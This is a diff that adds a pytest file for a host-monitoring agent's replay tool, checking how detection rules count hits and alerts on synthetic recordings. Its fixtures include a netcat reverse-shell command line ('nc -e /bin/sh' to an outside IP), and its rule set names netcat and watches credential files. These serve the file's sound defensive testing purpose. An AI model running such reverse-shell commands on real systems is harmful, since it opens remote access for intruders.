@@ -0,0 +1,90 @@
+import json
+from agent import recorder, rule_engine
+from agent.recorder import Recorder
+from agent.replay import Replay, main
+
+RULES = {
+    "watched_files": ["/etc/passwd", "/etc/ssh"],
+    "suspicious_processes": ["nc"],
+    "suspicious_parents": ["bash"],
+    "cmdline_keywords": ["nc -e"],
+    "regex": [],
+    "lineage_rules": [{"id": "web-shell", "chain": ["nginx", "...", "nc"]}],
+    "network_deny_cidrs": ["10.66.0.0/16"],
+}
+
+def record(path):
+    rec = Recorder(path)
+    rec.write(["p", 0.0, 10, 1, 1.0, "nginx", "/usr/sbin/nginx", "nginx", "systemd"])
+    rec.write(["p", 1.0, 20, 10, 2.0, "bash", "/bin/bash", "bash", "nginx"])
+    for i in range(100):
+        rec.write(["p", 2.0 + i, 1000 + i, 20, 3.0 + i, "nc", "/bin/nc", f"nc -e /bin/sh 1.2.3.4 {i}", "bash"])
+        rec.write(["x", 2.5 + i, 1000 + i])
+    rec.write(["c", 200.0, 20, "10.0.0.2", 40000, "10.66.0.9", 22])
+    rec.write(["c", 201.0, 20, "10.0.0.2", 40001, "8.8.8.8", 4444])
+    rec.write(["f", 300.0, "/etc/ssh/sshd_config", "modified"])
+    rec.write(["f", 301.0, "/var/log/other", "modified"])
+    rec.close()
+
+def test_replay_counts_hits_and_alerts(tmp_path, monkeypatch):
+    monkeypatch.setattr("agent.rule_engine.RULES", rule_engine.RULES)
+    monkeypatch.setattr("agent.rule_engine.RULESET", rule_engine.RULESET)
+    path = tmp_path / "rec.gz"
+    record(path)
+    replay = Replay(RULES, window=60)
+    replay.feed(recorder.read(path))
+    replay.finish()
+    rows = {(r["monitor"], r["rule"], r["rule_id"]): (r["hits"], r["alerts"]) for r in replay.report()}
+    # 100 запусков за 100 секунд при окне 60 с: два первых алерта и две сводки.
+    assert rows[("process", "suspicious_parent", "nc")] == (100, 4)
+    assert rows[("process", "cmdline_keyword", "nc -e")] == (100, 4)
+    assert rows[("process", "lineage", "web-shell")] == (100, 4)
+    assert rows[("network", "deny_cidr", "deny_cidr")] == (1, 1)
+    assert rows[("network", "public_ip", "public_ip")] == (1, 1)
+    assert rows[("network", "suspicious_port", "suspicious_port")] == (1, 1)
+    assert rows[("file", "modified", "/etc/ssh")] == (1, 1)
+    assert len(rows) == 7
+    assert replay.records == {"p": 102, "x": 100, "c": 2, "f": 2}
+    assert len(replay.tree) == 2
+
+def test_replay_cli(tmp_path, monkeypatch, capsys):
+    monkeypatch.setattr("agent.rule_engine.RULES", rule_engine.RULES)
+    monkeypatch.setattr("agent.rule_engine.RULESET", rule_engine.RULESET)
+    path = tmp_path / "rec.gz"
+    record(path)
+    rules = tmp_path / "rules.json"
+    rules.write_text(json.dumps(RULES))
+    assert main([str(path), "--rules", str(rules), "--window", "0", "--json"]) == 0
+    report = json.loads(capsys.readouterr().out)
+    assert report["rules"][0]["hits"] == report["rules"][0]["alerts"] == 100
+    assert main([str(path), "--rules", str(rules)]) == 0
+    assert "web-shell" in capsys.readouterr().out
+
+def test_replay_beacon_rules(tmp_path, monkeypatch):
+    monkeypatch.setattr("agent.rule_engine.RULES", rule_engine.RULES)
+    monkeypatch.setattr("agent.rule_engine.RULESET", rule_engine.RULESET)
+    path = tmp_path / "rec.gz"
+    rec = Recorder(path)
+    rec.write(["p", 0.0, 20, 1, 1.0, "updater", "/usr/bin/updater", "updater", "systemd"])
+    for i in range(12):
+        rec.write(["c", 10.0 + i * 30, 20, "10.0.0.2", 40000 + i, "10.1.2.3", 8443])
+    rec.close()
+    replay = Replay({"beacon_rules": [{"id": "c2", "min_connections": 5}]}, window=60)
+    replay.feed(recorder.read(path))
+    replay.finish()
+    assert [(r["rule"], r["rule_id"], r["hits"]) for r in replay.report()] == [("beacon", "c2", 1)]
+
+def test_replay_enrichment_rules(tmp_path, monkeypatch):
+    from agent.enrichment import build_db
+    monkeypatch.setattr("agent.rule_engine.RULES", rule_engine.RULES)
+    monkeypatch.setattr("agent.rule_engine.RULESET", rule_engine.RULESET)
+    build_db([["185.220.101.0/24", "208294", "DE", "Tor Relays", "tor"]], tmp_path / "enrich.db")
+    path = tmp_path / "rec.gz"
+    rec = Recorder(path)
+    rec.write(["c", 10.0, 20, "10.0.0.2", 40000, "185.220.101.6", 443])
+    rec.write(["c", 11.0, 20, "10.0.0.2", 40001, "1.1.1.1", 443])
+    rec.close()
+    rules = {"enrichment_rules": [{"id": "tor", "tags": ["tor"]}], "network_public_alerts": False}
+    replay = Replay(rules, window=60, enrichment_db=str(tmp_path / "enrich.db"))
+    replay.feed(recorder.read(path))
+    assert [(r["rule"], r["rule_id"], r["hits"]) for r in replay.report()] == [("enrichment", "tor", 1)]